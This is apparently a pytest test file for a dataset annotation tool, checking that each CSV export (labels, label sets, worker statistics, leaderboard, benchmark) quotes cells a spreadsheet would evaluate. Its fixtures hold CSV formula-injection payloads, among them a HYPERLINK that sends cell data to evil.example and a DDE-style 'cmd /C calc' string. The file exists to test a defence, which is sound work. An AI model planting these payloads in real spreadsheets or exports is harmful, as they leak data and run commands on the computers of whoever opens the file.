"""No CSV export carries a spreadsheet formula: a dataset imported with ids and captions that begin with `=`, `@`,
`+` or `-` (and names with a leading tab or carriage return) exports through every CSV path (labels CSV,
Crisscrossed files, label-set CSV and CxC, worker statistics, leaderboard, benchmark) with each such cell
quoted, while numbers, negative ones included, stay numbers (annotator.core.csvsafe)."""

import csv
import io
import json
import re

import pytest
from django.utils import timezone

from annotator import models
from annotator.analysis.scorecard import METRICS
from annotator.core.csvsafe import csv_cell, csv_writer
from annotator.datasets.services.imports import dataset_import
from annotator.finegrained.services.refinement.benchmark import BENCHMARK_MARK, benchmark_csv_chunks
from annotator.labels.services.exports.write import labels_write
from annotator.labels.services.labelsets.exports import labelset_export_chunks
from annotator.labels.services.labelsets.imports import labelset_import
from annotator.quality.selectors.agreement import worker_statistics_csv
from annotator.research.selectors.leaderboard import evaluations_csv
from tests import factories

pytestmark = pytest.mark.django_db

IMAGE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
CAPTION_IDS = ["=1+1", "@SUM(A1:A9)", "+cmd", "-1-1"]
CAPTION_TEXTS = [
    '=HYPERLINK("http://evil.example","a dog")',
    "@SUM(A1) a cat",
    "+ a bird",
    "a fish\r-2+3",
]  # a bare CR would start a row
LEADING_WHITESPACE_NAMES = ["\t=1+1", "\r=1+1"]  # import strips ids and captions; names keep these
# What a spreadsheet evaluates: a cell that begins with one of these and is not a plain number.
FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def evaluated_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if FORMULA.match(cell) and not NUMBER.match(cell)
    ]


def assert_safe(text: str, *, must_hold: list[str]) -> None:
    """No cell a spreadsheet would evaluate, and every hostile value is there, quoted (so it was exported);
    a value with a line break inside must come back whole (quoted), not as two rows."""
    assert evaluated_cells(text) == []
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    for value in must_hold:
        assert "'" + value in cells or (not FORMULA.match(value) and value in cells), (value, text[:500])


@pytest.fixture
def dataset(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path / "media"
    folder = tmp_path / "images"
    folder.mkdir()
    lines = []
    for n, (image, caption, text) in enumerate(zip(IMAGE_IDS, CAPTION_IDS, CAPTION_TEXTS, strict=True)):
        (folder / f"{n}.png").write_bytes(factories.png_bytes(color=(40 * n, 90, 200)))
        lines.append(json.dumps({"image": f"{n}.png", "image_id": image, "caption_id": caption, "caption": text}))
    captions = tmp_path / "captions.jsonl"
    captions.write_text("\n".join(lines) + "\n")
    imported = dataset_import(name="formulas", captions_path=captions, images_path=folder)
    assert sorted(imported.images.values_list("source_id", flat=True)) == sorted(IMAGE_IDS)
    return imported


def campaign_on(dataset, *, scale=models.Scale.FOUR_CHOICE, pseudonym='=HYPERLINK("http://evil")'):
    """A campaign with one labelled pair per caption, answered and approved by a worker called `pseudonym`."""
    campaign = factories.CampaignFactory(dataset=dataset, direction=models.CampaignDirection.BOTH, scale=scale)
    hit = factories.HitFactory(campaign=campaign, index=0)
    worker = factories.WorkerFactory(pseudonym=pseudonym)
    assignment = factories.AssignmentFactory(
        hit=hit, worker=worker, status=models.AssignmentStatus.APPROVED, submitted_at=timezone.now()
    )
    for caption in models.Caption.objects.filter(dataset=dataset).select_related("image"):
        pair = factories.PairFactory(
            campaign=campaign, image=caption.image, caption=caption, direction="i2t", is_original=True
        )
        factories.LabelFactory(pair=pair, score=3.5 if scale == models.Scale.SIMILARITY else None)
        item = factories.HitItemFactory(hit=hit, pair=pair)
        models.Answer.objects.create(assignment=assignment, item=item, choice=models.Choice.YES, seconds_spent=2.0)
    return campaign


def labels_text(campaign, fmt: str) -> str:
    out = io.BytesIO()
    labels_write(
        out=out,
        campaign_id=campaign.pk,
        format=fmt,
        method=models.AggregationMethod.MAJORITY,
        variant="lenient",
        merge_original=False,
    )
    return out.getvalue().decode()


def hostile_label_set(dataset):
    lines = [
        {"image": image, "caption": caption, "positive": True, "score": 4.0}
        for image, caption in zip(IMAGE_IDS, CAPTION_IDS, strict=True)
    ]
    lines.append({"caption": CAPTION_IDS[0], "other_caption": CAPTION_IDS[1], "positive": True, "score": 3.0})
    lines.append({"image": IMAGE_IDS[0], "other_image": IMAGE_IDS[1], "positive": False, "score": 1.0})
    body = "\n".join(json.dumps(line) for line in lines)
    return labelset_import(dataset=dataset, name="formulas", fmt="jsonl", files=[("set.jsonl", body)])


@pytest.mark.parametrize("value", ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-inf", "-1+2"])
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-0.5, -3, "-0.5", "-12", "+3", "1e-05", "-2.5E+3", "", "COCO_val2014:sentid:7", None]
)
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("terminator", ["\n", "\r\n"])
def test_a_line_break_inside_a_cell_is_quoted_whatever_the_line_terminator(terminator):
    """csv.writer leaves a bare CR unquoted under lineterminator="\\n"; a spreadsheet would start a row there."""
    out = io.StringIO()
    writer = csv_writer(out, lineterminator=terminator)
    writer.writerow(["a dog\r=1+1", -0.5])
    writer.writerow(["a cat\n@SUM(A1)", 2])
    assert out.getvalue() == f'"a dog\r=1+1",-0.5{terminator}"a cat\n@SUM(A1)",2{terminator}'
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["a dog\r=1+1", "-0.5"], ["a cat\n@SUM(A1)", "2"]]


def test_labels_csv(dataset):
    assert_safe(labels_text(campaign_on(dataset), "csv"), must_hold=IMAGE_IDS + CAPTION_IDS)


def test_crisscrossed_file_of_a_campaign(dataset):
    text = labels_text(campaign_on(dataset, scale=models.Scale.SIMILARITY), "cxc_csv")
    assert_safe(text, must_hold=IMAGE_IDS + CAPTION_IDS)
    assert {row["agg_score"] for row in csv.DictReader(io.StringIO(text, newline=""))} == {"3.5"}


def test_label_set_csv_keeps_its_numbers(dataset):
    text = "".join(labelset_export_chunks(label_set=hostile_label_set(dataset), fmt="csv"))
    assert_safe(text, must_hold=IMAGE_IDS + CAPTION_IDS)
    assert {row["score"] for row in csv.DictReader(io.StringIO(text, newline=""))} == {"4", "3", "1"}


@pytest.mark.parametrize(
    ("fmt", "must_hold"),
    [("cxc_sits", IMAGE_IDS + CAPTION_IDS), ("cxc_sts", CAPTION_IDS[:2]), ("cxc_sis", IMAGE_IDS[:2])],
)
def test_label_set_crisscrossed_files(dataset, fmt, must_hold):
    assert_safe("".join(labelset_export_chunks(label_set=hostile_label_set(dataset), fmt=fmt)), must_hold=must_hold)


@pytest.mark.parametrize("pseudonym", ["@SUM(1+1)", *LEADING_WHITESPACE_NAMES])
def test_worker_statistics_csv(dataset, pseudonym):
    assert_safe(worker_statistics_csv(campaign=campaign_on(dataset, pseudonym=pseudonym)), must_hold=[pseudonym])


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil")', "-1+1", *LEADING_WHITESPACE_NAMES])
def test_leaderboard_csv_quotes_the_name_and_keeps_negative_numbers(dataset, name):
    key = METRICS[0][0]
    metrics = {key: {"value": -0.5, "low": -0.75, "high": 0.25}}
    evaluation = factories.EvaluationFactory(
        campaign=campaign_on(dataset), name=name, results={"metrics": {"i2t": metrics}}
    )
    text = evaluations_csv([evaluation])
    assert_safe(text, must_hold=[name])
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert (row[key], row[f"{key}_low"], row[f"{key}_high"]) == ("-0.5", "-0.75", "0.25")


def test_benchmark_csv(dataset):
    label_set = hostile_label_set(dataset)
    label_set.report = {**label_set.report, BENCHMARK_MARK: True}
    label_set.save(update_fields=["report"])
    assert_safe("".join(benchmark_csv_chunks(label_set=label_set)), must_hold=IMAGE_IDS + CAPTION_IDS + CAPTION_TEXTS)
